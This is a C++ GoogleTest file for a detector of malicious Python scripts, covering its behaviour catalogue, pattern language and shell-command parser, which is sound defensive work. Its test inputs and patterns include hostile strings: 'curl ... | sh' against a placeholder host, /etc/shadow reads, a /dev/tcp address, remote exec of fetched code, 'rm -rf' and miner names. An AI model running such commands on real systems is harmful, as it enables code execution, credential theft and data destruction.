#include "behaviour/behaviour.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <span>
#include <string>
#include <vector>

#include "attack/attack.h"
#include "behaviour/command_pattern.h"
#include "behaviour/pattern.h"
#include "behaviour/rules.h"
#include "behaviour_examples.h"

namespace pyverdict::behaviour {
namespace {

std::vector<std::string_view> words(std::string_view text) {
  std::vector<std::string_view> result;
  while (!text.empty()) {
    const std::size_t space = std::min(text.find(' '), text.size());
    if (space > 0) result.push_back(text.substr(0, space));
    text.remove_prefix(std::min(space + 1, text.size()));
  }
  return result;
}

std::set<std::string_view> found_in(std::string_view script, Severity least) {
  const unwrap::Program program = unwrap::unwrap(std::string(script));
  std::set<std::string_view> ids;
  for (const Evidence& evidence : match(program).evidence) {
    if (evidence.behaviour->severity >= least) ids.insert(evidence.behaviour->id);
  }
  return ids;
}

std::string joined(const std::set<std::string_view>& ids) {
  std::string result;
  for (std::string_view id : ids) (result += id) += ' ';
  return result;
}

TEST(Catalogue, EveryRowParses) {
  for (const std::string& error : rules().errors) ADD_FAILURE() << error;
  EXPECT_GE(catalogue().size(), 120u);
}

TEST(Catalogue, RowsAreCompleteAndTechniquesCurrent) {
  std::set<std::string_view> ids;
  for (const Behaviour& row : catalogue()) {
    EXPECT_TRUE(ids.insert(row.id).second) << row.id;
    EXPECT_EQ(find(row.id), &row);
    EXPECT_FALSE(row.title.empty() || row.meaning.empty() || row.benign.empty() || row.does.empty())
        << row.id;
    EXPECT_FALSE(row.techniques.empty()) << row.id;
    for (const std::string_view id : words(row.techniques)) {
      const attack::Technique* technique = attack::find(id);
      ASSERT_NE(technique, nullptr) << row.id << ' ' << id;
      EXPECT_TRUE(technique->current()) << row.id << ' ' << id;
    }
  }
  EXPECT_EQ(find("no-such-behaviour"), nullptr);
}

TEST(Catalogue, TheListForReadersHasEveryRow) {
  const auto root = std::filesystem::path(PYVERDICT_TEST_CASES).parent_path().parent_path();
  std::ifstream file(root / "docs" / "behaviours.md");
  const std::string list{std::istreambuf_iterator<char>(file), {}};
  for (const Behaviour& row : catalogue()) {
    const std::string start = "| `" + std::string(row.id) + "` | " + std::string(row.title) + " | " +
                              std::string(row.meaning) + " |";
    EXPECT_NE(list.find(start), std::string::npos) << "build/release/list_behaviours > docs/behaviours.md";
  }
}

std::vector<std::span<const Example>> all_examples() {
  return {execution_examples(),  control_examples(), credential_examples(),
          host_examples(),       impact_examples(),  cloud_examples(),
          collection_examples(), damage_examples(),  hiding_examples()};
}

TEST(Catalogue, EachBehaviourHasAnExampleAndALookAlike) {
  std::set<std::string_view> shown;
  for (const auto examples : all_examples()) {
    for (const Example& example : examples) {
      shown.insert(example.id);
      EXPECT_FALSE(example.match.empty() || example.quiet.empty()) << example.id;
    }
  }
  for (const Behaviour& row : catalogue()) EXPECT_TRUE(shown.contains(row.id)) << row.id;
}

TEST(Catalogue, EachExampleShowsItsBehaviourAndNoOther) {
  for (const auto examples : all_examples()) {
    for (const Example& example : examples) {
      const Behaviour* row = find(example.id);
      ASSERT_NE(row, nullptr) << example.id;
      EXPECT_TRUE(found_in(example.match, Severity::Info).contains(example.id))
          << example.id << " is not found in" << example.match;
      std::set<std::string_view> others = found_in(example.match, Severity::Medium);
      others.erase(example.id);
      for (const std::string_view companion : words(example.companions)) {
        EXPECT_EQ(others.erase(companion), 1u) << example.id << ": companion is not there: " << companion;
      }
      EXPECT_TRUE(others.empty()) << example.id << " comes with " << joined(others);
      EXPECT_FALSE(found_in(example.quiet, Severity::Info).contains(example.id))
          << example.id << " is found in" << example.quiet;
      const std::set<std::string_view> loud = found_in(example.quiet, Severity::Medium);
      EXPECT_TRUE(loud.empty()) << "look-alike of " << example.id << " shows " << joined(loud);
    }
  }
}

TEST(Catalogue, CommentsAndDocstringsAreNoEvidence) {
  EXPECT_TRUE(found_in("\"\"\"curl http://host.example.invalid | sh, /etc/shadow, stratum+tcp://pool\"\"\"\n"
                       "# open('/etc/shadow'); exec(requests.get(u).text)\n"
                       "def f():\n    '''/dev/tcp/192.0.2.1/1'''\n    return 1\n",
                       Severity::Info)
                  .empty());
}

// One row of one's own, for tests of the language.
std::vector<text::Span> places(std::string_view pattern, std::string_view script) {
  const Behaviour row{.id = "probe",
                      .title = "",
                      .meaning = "",
                      .severity = Severity::Low,
                      .techniques = "",
                      .pattern = pattern,
                      .benign = "",
                      .does = ""};
  const Rules rules = compile(std::span(&row, 1), {});
  EXPECT_TRUE(rules.errors.empty()) << (rules.errors.empty() ? "" : rules.errors[0]);
  const unwrap::Program program = unwrap::unwrap(std::string(script));
  std::vector<text::Span> result;
  for (const Evidence& evidence : match_with(rules, program, 20).evidence) result.push_back(evidence.span);
  return result;
}

struct PatternCase {
  std::string_view pattern;
  std::string_view script;
  std::size_t count;
};

class PatternLanguage : public testing::TestWithParam<PatternCase> {};

TEST_P(PatternLanguage, Finds) {
  EXPECT_EQ(places(GetParam().pattern, GetParam().script).size(), GetParam().count)
      << GetParam().pattern << "\n"
      << GetParam().script;
}

INSTANTIATE_TEST_SUITE_P(
    Cases, PatternLanguage,
    testing::Values(
        PatternCase{"call(os.system)", "import os\nos.system('a')\nos.system('b')\n", 2},
        PatternCase{"call(os.system)", "from os import system as run\nrun('a')\n", 1},
        PatternCase{"call(os.*)", "import os\nos.getpid()\n", 1},
        PatternCase{"call(os.*)", "import osx\nosx.getpid()\n", 0},
        PatternCase{"call(*.connect)", "import socket\nsocket.socket().connect(('192.0.2.1', 1))\n", 1},
        PatternCase{"call(@shell)", "import os\nos.popen('a')\n", 1},
        PatternCase{"call(open; 1/mode ~ \"w\")", "open('a', 'w')\nopen('b', mode='wb')\nopen('c')\n", 2},
        PatternCase{"call(open; 0 = \"*.TXT\")", "open('a.txt')\nopen('b.py')\n", 1},
        PatternCase{"call(open; not 0 = \"a\")", "open('a')\nopen('b')\n", 1},
        PatternCase{"call(open; 0:partial)", "open('a' + b)\nopen('c')\n", 1},
        PatternCase{"call(open; args = 2)", "open('a')\nopen('a', 'r')\n", 1},
        PatternCase{"call(os.chmod; 1 = 0o755)", "import os\nos.chmod('a', 0o755)\nos.chmod('a', 420)\n", 1},
        PatternCase{"call(f.g; k = True)", "import f\nf.g(k=True)\nf.g(k=False)\nf.g()\n", 1},
        PatternCase{"call(f.g; k:absent)", "import f\nf.g(k=True)\nf.g()\n", 1},
        PatternCase{"call(f.g; k:present)", "import f\nf.g(k=True)\nf.g()\n", 1},
        PatternCase{"call(f.g; any ~ \"needle\")",
                    "import f\nf.g(1, ['a', {'k': 'a needle b'}])\nf.g(['hay'])\n", 1},
        PatternCase{"call(f.g; 0 ^ \"pre\")", "import f\nf.g('prefix')\nf.g(['prefix', 'b'])\nf.g('a pre')\n",
                    2},
        PatternCase{"call(exec; 0:network)", "import requests\nexec(requests.get('u').text)\nexec('1')\n", 1},
        PatternCase{"call(f.g; 0:min(300))", "import f\nf.g(301)\nf.g(2)\n", 1},
        PatternCase{"call(f.g; 0:is(os.environ))", "import f, os\nf.g(os.environ)\nf.g(1)\n", 1},
        PatternCase{"call(f.g; in: forever)", "import f\nwhile True:\n    f.g()\n", 1},
        PatternCase{"call(f.g; not in: function)", "import f\nf.g()\ndef h():\n    f.g(1)\nh()\n", 1},
        PatternCase{"call(f.g; within = \"h\")", "import f\nf.g()\ndef h():\n    f.g(1)\nh()\n", 1},
        PatternCase{"call(f.g; times = 3)", "import f\nf.g()\nf.g()\n", 0},
        PatternCase{"call(f.g; times = 2)", "import f\nf.g()\nf.g()\n", 2},
        PatternCase{"call(f.a) and call(f.b)", "import f\nf.b()\nf.a()\n", 1},
        PatternCase{"call(f.a) and call(f.b)", "import f\nf.a()\n", 0},
        PatternCase{"call(f.a) then call(f.b)", "import f\nf.b()\nf.a()\n", 0},
        PatternCase{"call(f.a) then call(f.b)", "import f\nf.a()\nf.b()\n", 1},
        PatternCase{"call(f.a) and not call(f.b)", "import f\nf.a()\nf.b()\n", 0},
        PatternCase{"call(f.a) and not call(f.b)", "import f\nf.a()\n", 1},
        PatternCase{"call(f.a) near call(f.b)", "import f\ndef h():\n    f.a()\ndef k():\n    f.b()\n", 0},
        PatternCase{"call(f.a) near call(f.b)", "import f\ndef h():\n    f.a()\n    f.b()\n", 1},
        PatternCase{"call(f.a) or call(f.b)", "import f\nf.b()\nf.a()\n", 2},
        PatternCase{"call(f.a; 0 = $p) then call(f.b; any ~ $p)",
                    "import f\nf.a('/tmp/x')\nf.b(['/tmp/x'])\n", 1},
        PatternCase{"call(f.a; 0 = $p) then call(f.b; any ~ $p)",
                    "import f\nf.a('/tmp/x')\nf.b(['/tmp/y'])\n", 0},
        PatternCase{"call(f.a; 0 = $p) then call(f.b; any ~ $p)",
                    "import f\nf.a('/tmp/x')\nf.b('sh /tmp/x now')\n", 1},
        PatternCase{"text(\"/ETC/shadow\")", "a = 'see /etc/shadow there'\n", 1},
        PatternCase{"word(\"xmrig\")", "a = 'run xmrig now'\nb = 'xmrigger'\n", 1},
        PatternCase{"whole(\"/etc/passwd\")", "a = '/etc/passwd'\nb = 'cat /etc/passwd'\n", 1},
        PatternCase{"text(\"/proc/*/mem\"; not \"self\")",
                    "a = '/proc/17/mem'\nb = '/proc/self/mem'\nc = '/proc/'\n", 1},
        PatternCase{"text(\"abcd\")", "a = 'ab' + 'cd'\n", 1},
        PatternCase{"shell(\"curl | sh\")", "import os\nos.system('curl x | sh')\nos.system('sh | curl')\n",
                    1},
        PatternCase{"shell(\"rm -rf\")", "import subprocess\nsubprocess.run(['rm', '-rf', 'x'])\n", 1},
        PatternCase{"shell(\"curl\")", "import os\nos.system('curl ' + url)\n", 1},
        PatternCase{"layer(python; via = \"base64\")",
                    "import base64\nexec(base64.b64decode('cHJpbnQoMSsxKzErMSk='))\n", 1},
        PatternCase{"import(os)", "import os\n", 1},
        PatternCase{"define(unittest.TestCase)", "import unittest\nclass A(unittest.TestCase):\n    pass\n",
                    1}));

TEST(Pattern, SaysWhatIsWrong) {
  for (const std::string_view text :
       {"", "call", "call(", "call()", "call(a", "calls(a)", "text(a)", "text(\"abc\")",
        "call(@no-such-group)", "call(a; 0)", "call(a; 0 = )", "call(a; 0:no-such-property)",
        "call(a; in: nowhere)", "call(a) and", "not call(a)", "call(a) and not at call(b)", "call(a) call(b)",
        "text(\"abcd)", "call(a; 0:long(x))"}) {
    EXPECT_FALSE(parse_pattern(text).error.empty()) << text;
  }
}

TEST(Pattern, TooWideSymbolsAreRefused) {
  const Behaviour row{.id = "probe",
                      .title = "",
                      .meaning = "",
                      .severity = Severity::Low,
                      .techniques = "",
                      .pattern = "call(*)",
                      .benign = "",
                      .does = ""};
  EXPECT_FALSE(compile(std::span(&row, 1), {}).errors.empty());
}

TEST(Match, ReportsTheNarrowestPlaceAndBoundsTheirNumber) {
  std::string script = "import os\n";
  for (int i = 0; i < 50; ++i) script += "os.system('x" + std::to_string(i) + "')\n";
  const unwrap::Program program = unwrap::unwrap(script);
  const Findings findings = match(program, 5);
  const auto count = std::count_if(findings.evidence.begin(), findings.evidence.end(),
                                   [](const Evidence& e) { return e.behaviour->id == "shell-command"; });
  EXPECT_EQ(count, 5);
  EXPECT_EQ(findings.left_out, 45u);
  const text::Span span = findings.evidence.front().span;
  EXPECT_EQ(script.substr(span.start, span.end - span.start), "os.system('x0')");
}

TEST(Match, SaysWhatCannotRun) {
  const unwrap::Program program =
      unwrap::unwrap("import sys\nsys.exit()\nprint(open('/etc/shadow').read())\n");
  const Findings findings = match(program);
  const auto it = std::find_if(findings.evidence.begin(), findings.evidence.end(),
                               [](const Evidence& e) { return e.behaviour->id == "shadow-file"; });
  ASSERT_NE(it, findings.evidence.end());
  EXPECT_NE(it->context & unwrap::kUnreachable, 0);
}

TEST(Match, CollectsCounterEvidence) {
  const unwrap::Program program = unwrap::unwrap(
      "import argparse, logging, unittest\nlog = logging.getLogger(__name__)\n"
      "class T(unittest.TestCase):\n    pass\n"
      "p = argparse.ArgumentParser()\np.add_argument('x')\n");
  std::set<std::string_view> ids;
  for (const CounterEvidence& counter : match(program).counter_evidence) ids.insert(counter.id);
  EXPECT_TRUE(ids.contains("argument-parser"));
  EXPECT_TRUE(ids.contains("logging"));
  EXPECT_TRUE(ids.contains("unit-tests"));
}

struct ShellCase {
  std::string_view text;
  /// Words joined by a blank, commands by "; ".
  std::string_view commands;
};

class ShellWords : public testing::TestWithParam<ShellCase> {};

TEST_P(ShellWords, AreRead) {
  std::string result;
  for (const shell::Command& command : shell::read_commands(GetParam().text, shell::ShellDialect::Posix)) {
    if (!result.empty()) result += "; ";
    for (std::size_t i = 0; i < command.words.size(); ++i) result += (i > 0 ? " " : "") + command.words[i];
    EXPECT_LT(command.span.start, command.span.end);
    EXPECT_LE(command.span.end, GetParam().text.size());
  }
  EXPECT_EQ(result, GetParam().commands);
}

INSTANTIATE_TEST_SUITE_P(
    Cases, ShellWords,
    testing::Values(ShellCase{"", ""}, ShellCase{"a b", "a b"}, ShellCase{"a 'b c' \"d e\"", "a b c d e"},
                    ShellCase{"a; b && c || d", "a; b; c; d"}, ShellCase{"a | b", "a; b"},
                    ShellCase{"a # b", "a"}, ShellCase{"a#b", "a#b"}, ShellCase{"a > x 2>&1", "a > x > 1"},
                    ShellCase{"sudo -u root env A=1 curl x", "curl x"}, ShellCase{"timeout 5 sh", "sh"},
                    ShellCase{"a $(b c) d", "b c; a  d"}, ShellCase{"a `b`", "b; a "},
                    ShellCase{"bash <(curl x)", "curl x; bash "},
                    ShellCase{"sh -c 'a; b'", "sh -c a; b; a; b"}, ShellCase{"a \\\n b", "a b"},
                    ShellCase{"cat <<E > f\nx y\nE\nb", "cat > f << x y\n; b"},
                    ShellCase{"C:\\Users\\x.exe /q", "C:\\Users\\x.exe /q"}, ShellCase{"A=1", "A=1"},
                    ShellCase{"echo 'unfinished", "echo unfinished"}, ShellCase{"a $(b", "b; a "}));

TEST(Shell, HostileTextStaysBounded) {
  std::string nested;
  for (int i = 0; i < 20'000; ++i) nested += "$(";
  EXPECT_LE(shell::read_commands(nested, shell::ShellDialect::Posix).size(), 5000u);
  EXPECT_LE(
      shell::read_commands(std::string(200'000, ';') + std::string(100'000, '('), shell::ShellDialect::Posix)
          .size(),
      5000u);
  std::string many;
  for (int i = 0; i < 20'000; ++i) many += "a|";
  EXPECT_LE(shell::read_commands(many, shell::ShellDialect::Posix).size(), 5000u);
}

TEST(Match, DamagedAndCutOffScriptsAreSafe) {
  for (const auto examples : all_examples()) {
    for (const Example& example : examples) {
      for (std::size_t cut = 0; cut < example.match.size(); cut += 17) {
        const unwrap::Program program = unwrap::unwrap(std::string(example.match.substr(0, cut)));
        for (const Evidence& evidence : match(program).evidence) {
          ASSERT_LT(evidence.span.start, evidence.span.end);
          ASSERT_LE(evidence.span.end, program.layers[evidence.layer].text.size());
        }
      }
    }
  }
}

}  // namespace
}  // namespace pyverdict::behaviour
